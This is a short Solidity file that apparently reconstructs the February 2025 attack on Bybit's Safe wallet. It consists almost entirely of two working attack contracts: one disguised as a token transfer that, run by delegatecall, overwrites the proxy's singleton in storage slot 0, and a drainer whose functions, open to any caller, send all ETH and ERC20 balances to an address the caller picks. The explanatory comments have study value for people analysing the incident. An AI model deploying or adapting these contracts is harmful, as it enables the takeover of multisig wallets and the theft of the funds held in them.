// SPDX-License-Identifier: AGPL-3.0-or-later
pragma solidity 0.8.30;

interface Token {
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

/// The shape of the attack on Bybit's Safe in February 2025: looks like a token's transfer; run by delegatecall
/// it puts `to` into slot 0, where a Safe's proxy keeps its singleton.
contract SafeTakeover {
    address private singleton;

    function transfer(address to, uint256) external returns (bool) {
        singleton = to;
        return true;
    }
}

/// What the attacker puts in place of the singleton: whoever calls takes everything.
contract SafeDrainer {
    address private singleton;

    function sweepETH(address payable to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }

    function sweepERC20(address token, address to) external {
        Token(token).transfer(to, Token(token).balanceOf(address(this)));
    }

    receive() external payable {}
}
